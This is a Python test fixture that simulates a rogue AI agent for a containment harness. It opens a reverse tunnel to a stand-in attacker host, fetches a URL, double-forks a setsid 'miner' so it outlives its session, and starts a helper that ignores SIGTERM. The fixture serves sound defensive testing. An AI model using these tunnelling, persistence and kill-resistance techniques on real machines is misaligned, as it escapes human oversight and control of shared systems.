"""The incident's agent, without the SDK: it imports nothing of agent_passport and asks nobody.

It opens a reverse tunnel to ``--tunnel HOST:PORT`` (default the attacker's ``198.51.100.7:22``)
the way an ``ssh -o ProxyCommand`` or any HTTP client does: through ``$HTTPS_PROXY`` with
``CONNECT`` if the variable is set, directly otherwise. Then it fetches ``--fetch URL`` (if
given, with urllib, which honours the proxy variables), starts a "miner" that double-forks and
calls ``setsid`` (neither its child nor in its session), and a helper that ignores SIGTERM.
Every process appends ``<role> <pid>`` to ``--pids FILE``, the agent ``ready <pid>`` last; then
it sleeps until something stops it. What it tried is printed on stdout.
"""

import argparse
import http.client
import os
import signal
import time
import urllib.parse
import urllib.request


def note(path: str, role: str) -> None:
    with open(path, "a") as pids:
        pids.write(f"{role} {os.getpid()}\n")


def say(message: str) -> None:
    print(f"agent: {message}", flush=True)


def open_tunnel(target: str) -> None:
    host, _, port = target.rpartition(":")
    proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy")
    if proxy:
        parsed = urllib.parse.urlsplit(proxy)
        connection = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=5)
        connection.set_tunnel(host, int(port))
        how = f"CONNECT {target} through {proxy}"
    else:
        connection = http.client.HTTPConnection(host, int(port), timeout=2)
        how = f"direct connection to {target}"
    try:
        connection.connect()
    except OSError as exc:
        say(f"reverse tunnel: {how}: failed ({exc})")
    else:
        say(f"reverse tunnel: {how}: OPEN")
    finally:
        connection.close()


def fetch(url: str) -> None:
    try:
        with urllib.request.urlopen(url, timeout=5) as response:  # noqa: S310 (a test URL)
            say(f"fetch {url}: {response.status}")
    except OSError as exc:
        say(f"fetch {url}: failed ({exc})")


def start_miner(path: str) -> None:
    if os.fork() == 0:  # the intermediate: new session, fork, exit (the miner is orphaned)
        os.setsid()
        if os.fork() == 0:
            note(path, "miner")
            total = 0
            while True:  # "mining": a little work, then a short nap (the machine is shared)
                total += sum(range(1000))
                time.sleep(0.01)
        os._exit(0)
    os.wait()


def start_stubborn(path: str) -> None:
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        note(path, "stubborn")
        while True:
            time.sleep(0.05)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--pids", required=True)
    parser.add_argument("--tunnel", default="198.51.100.7:22")
    parser.add_argument("--fetch")
    args = parser.parse_args()
    open(args.pids, "a").close()
    open_tunnel(args.tunnel)
    if args.fetch:
        fetch(args.fetch)
    start_miner(args.pids)
    start_stubborn(args.pids)
    while True:  # ready once both children have written their line
        with open(args.pids) as pids:
            if len(pids.read().splitlines()) >= 2:
                break
        time.sleep(0.005)
    say("miner started (double-forked, setsid), helper ignores SIGTERM")
    note(args.pids, "ready")
    while True:
        time.sleep(1)


if __name__ == "__main__":
    main()
